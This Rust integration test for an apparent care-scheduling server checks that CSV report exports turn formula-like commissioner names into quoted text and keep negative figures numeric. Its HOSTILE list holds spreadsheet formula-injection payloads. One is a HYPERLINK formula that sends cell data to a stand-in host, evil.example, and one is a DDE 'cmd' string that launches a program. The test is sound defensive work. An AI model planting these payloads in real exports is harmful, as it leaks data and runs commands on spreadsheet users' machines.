//! CSV exports from the real server never hand a spreadsheet a formula: commissioners named like
//! formulas come out as quoted text with a leading single quote, and negative figures stay numbers.

use caresync_core::domain::*;
use caresync_tests::*;
use serde_json::json;

/// RFC 4180 fields of each line (quoted fields may hold commas, quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<(String, bool)>> {
    let mut lines = Vec::new();
    let (mut line, mut field, mut quoted, mut was_quoted) = (Vec::new(), String::new(), false, false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => {
                quoted = true;
                was_quoted = true;
            }
            (false, ',') => line.push((std::mem::take(&mut field), std::mem::take(&mut was_quoted))),
            (false, '\r') => {}
            (false, '\n') => {
                line.push((std::mem::take(&mut field), std::mem::take(&mut was_quoted)));
                lines.push(std::mem::take(&mut line));
            }
            (false, c) => field.push(c),
        }
    }
    lines
}

/// (A leading tab or carriage return cannot reach a name through the API, which trims names and
/// refuses control characters; the CSV writer's unit tests cover those.)
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Council portal\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
];

#[test]
fn commissioners_named_like_formulas_are_exported_as_text() -> TestResult {
    let world = World::start()?;
    let office = &world.office;
    let carer = office.create_person("Ann", "carer")?;
    let client = office.create_client("Mrs Jones", None)?;
    let start = now() - 3 * HOUR_MS;
    for (n, commissioner) in HOSTILE.iter().enumerate() {
        let (status, contract) = office.call(
            "POST",
            "/api/v1/contracts",
            Some(json!({"name": format!("Contract {n}"), "commissioner": commissioner, "model": "spot", "rules": {}})),
        )?;
        assert_eq!(status, 201, "{contract}");
        let contract: ContractId = contract["id"].as_str().ok_or("no id")?.parse()?;
        office.create_visit_for(client, contract, &[carer], start + n as i64 * MINUTE_MS, 30)?;
    }
    let from = chrono::DateTime::from_timestamp_millis(start - 8 * DAY_MS)
        .ok_or("date")?
        .date_naive();
    let to = from + chrono::Duration::days(16);
    let window = format!("from={from}&to={to}");

    let (status, text) = office.call(
        "GET",
        &format!("/api/v1/reports/punctuality.csv?{window}&group_by=commissioner&period=month"),
        None,
    )?;
    assert_eq!(status, 200, "{text}");
    let text = text.as_str().ok_or("csv is text")?.to_string();
    let lines = parse_csv(&text);
    let group = lines[0]
        .iter()
        .position(|(c, _)| c == "group")
        .ok_or("no group column")?;
    let groups: Vec<&(String, bool)> = lines[1..].iter().map(|l| &l[group]).collect();
    for commissioner in HOSTILE {
        assert!(
            groups.contains(&&(format!("'{commissioner}"), true)),
            "{commissioner:?} is not quoted text with a leading single quote: {groups:?}"
        );
    }
    // No field anywhere starts a formula unless it is a number.
    for fields in &lines {
        for (field, _) in fields {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']) || field.parse::<f64>().is_ok(),
                "{field:?} in {text:?}"
            );
        }
    }

    // Reconciliation: nobody came, so delivered minus authorised is negative, and a number.
    let (status, text) = office.call(
        "GET",
        &format!("/api/v1/reports/reconciliation.csv?{window}"),
        None,
    )?;
    assert_eq!(status, 200, "{text}");
    let text = text.as_str().ok_or("csv is text")?.to_string();
    let lines = parse_csv(&text);
    let column = lines[0]
        .iter()
        .position(|(c, _)| c == "delivered_minus_authorised")
        .ok_or("no difference column")?;
    let differences: Vec<&(String, bool)> = lines[1..].iter().map(|l| &l[column]).collect();
    assert!(!differences.is_empty());
    for (field, quoted) in differences {
        assert!(
            !quoted && field.parse::<i64>().is_ok_and(|m| m < 0),
            "{field:?} in {text:?}"
        );
    }
    Ok(())
}
